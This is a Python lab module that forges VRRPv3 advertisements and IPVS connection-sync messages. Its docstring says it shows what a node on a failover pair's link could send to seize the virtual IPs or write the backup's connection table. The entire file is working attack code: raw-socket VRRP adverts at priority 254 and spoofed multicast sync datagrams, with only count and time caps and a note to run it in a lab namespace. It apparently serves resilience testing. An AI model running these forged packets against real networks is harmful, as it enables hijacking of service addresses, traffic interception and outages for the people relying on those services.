"""Forged VRRP adverts and IPVS sync messages: what a node on the pair's
link could send to take the VIPs or write the backup's connection table.

Run in a lab namespace (``ip netns exec ks-worker01 python -m lab.forge ...``);
the packets are built here from their specifications:

- VRRPv3 (RFC 5798 section 5.1 and 5.2.8): version 3, type 1, the VRID,
  the priority, the count of addresses, the max advert interval in
  centiseconds, a checksum over an IPv4 pseudo-header and the message, the
  addresses. Sent with IP protocol 112 and TTL 255, as a router sends them.
- IPVS sync, protocol version 1 (Linux include/net/ip_vs.h and
  net/netfilter/ipvs/ip_vs_sync.c: ``struct ip_vs_sync_mesg`` then
  ``struct ip_vs_sync_v4``): one TCP connection of a client to VIP:port via a
  real server, to the sync daemons' group 224.0.0.81:8848.

Nothing here runs in the root namespace: the lab's subnets are not routed there.
"""

from __future__ import annotations

import argparse
import ipaddress
import socket
import struct
import sys
import time

VRRP_PROTO = 112
#: The IPVS sync daemons' multicast group and port (ip_vs_sync.c IP_VS_SYNC_GROUP, _PORT).
SYNC_GROUP, SYNC_PORT = "224.0.0.81", 8848
SYNC_PROTO_VER = 1
#: ip_vs.h: IP_VS_TCP_S_ESTABLISHED.
TCP_ESTABLISHED = 1


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071)."""
    if len(data) % 2:
        data += b"\0"
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def vrrp3_advert(
    src: str, dst: str, vrid: int, priority: int, interval_s: float, addresses: list[str]
) -> bytes:
    """One VRRPv3 advert from ``src`` to ``dst`` (its checksum covers both)."""
    centis = max(1, min(0xFFF, round(interval_s * 100)))
    body = struct.pack("!BBBBHH", 0x31, vrid, priority, len(addresses), centis, 0)
    body += b"".join(socket.inet_aton(a) for a in addresses)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 112, len(body))
    return body[:6] + struct.pack("!H", checksum(pseudo + body)) + body[8:]


def sync_message(
    syncid: int,
    client: tuple[str, int],
    virtual: tuple[str, int],
    real: tuple[str, int],
    fwmark: int,
    timeout_s: int = 60,
) -> bytes:
    """A version-1 sync message with one established TCP connection."""
    conn = struct.pack(
        "!BBHIHHHHII4s4s4s",
        0,  # type: IPv4
        socket.IPPROTO_TCP,
        36,  # version 0 (high 4 bits), size of this entry
        0,  # flags: masquerading (NAT)
        TCP_ESTABLISHED,
        client[1],
        virtual[1],
        real[1],
        fwmark,
        timeout_s,
        socket.inet_aton(client[0]),
        socket.inet_aton(virtual[0]),
        socket.inet_aton(real[0]),
    )
    head = struct.pack("!BBHBbH", 0, syncid, 8 + len(conn), 1, SYNC_PROTO_VER, 0)
    return head + conn


def send_adverts(
    src: str, dsts: list[str], vrid: int, priority: int, interval_s: float, seconds: float,
    addresses: list[str],
) -> int:  # fmt: skip
    """Adverts to each of ``dsts`` every ``interval_s`` for ``seconds``; how many went."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, VRRP_PROTO)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 255)
    sock.bind((src, 0))
    packets = {d: vrrp3_advert(src, d, vrid, priority, interval_s, addresses) for d in dsts}
    sent = 0
    end = time.monotonic() + seconds
    for _ in range(int(seconds / interval_s) + 1):  # bounded in count and time
        if time.monotonic() >= end:
            break
        for dst, packet in packets.items():
            sock.sendto(packet, (dst, 0))
            sent += 1
        time.sleep(interval_s)
    sock.close()
    return sent


def send_sync(src: str, message: bytes, count: int) -> int:
    """``count`` copies of a sync message from ``src`` to the daemons' group."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
    # A multicast datagram leaves by the interface of its bound source address.
    sock.bind((src, 0))
    for _ in range(count):
        sock.sendto(message, (SYNC_GROUP, SYNC_PORT))
        time.sleep(0.05)
    sock.close()
    return count


def _endpoint(text: str) -> tuple[str, int]:
    host, _, port = text.rpartition(":")
    return str(ipaddress.IPv4Address(host)), int(port)


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="python -m lab.forge")
    sub = ap.add_subparsers(dest="what", required=True)
    v = sub.add_parser("vrrp")
    v.add_argument("--src", required=True)
    v.add_argument("--dst", required=True, help="comma-separated")
    v.add_argument("--vrid", type=int, required=True)
    v.add_argument("--priority", type=int, default=254)
    v.add_argument("--interval", type=float, default=0.1)
    v.add_argument("--seconds", type=float, default=10.0)
    v.add_argument("--address", required=True, help="comma-separated")
    s = sub.add_parser("sync")
    s.add_argument("--src", required=True)
    s.add_argument("--syncid", type=int, required=True)
    s.add_argument("--client", required=True)
    s.add_argument("--virtual", required=True)
    s.add_argument("--real", required=True)
    s.add_argument("--fwmark", type=int, required=True)
    s.add_argument("--count", type=int, default=5)
    args = ap.parse_args(argv)
    if args.what == "vrrp":
        sent = send_adverts(
            args.src, args.dst.split(","), args.vrid, args.priority, args.interval,
            min(args.seconds, 60.0), args.address.split(","),
        )  # fmt: skip
    else:
        message = sync_message(
            args.syncid, _endpoint(args.client), _endpoint(args.virtual), _endpoint(args.real),
            args.fwmark,
        )  # fmt: skip
        sent = send_sync(args.src, message, min(args.count, 100))
    print(sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
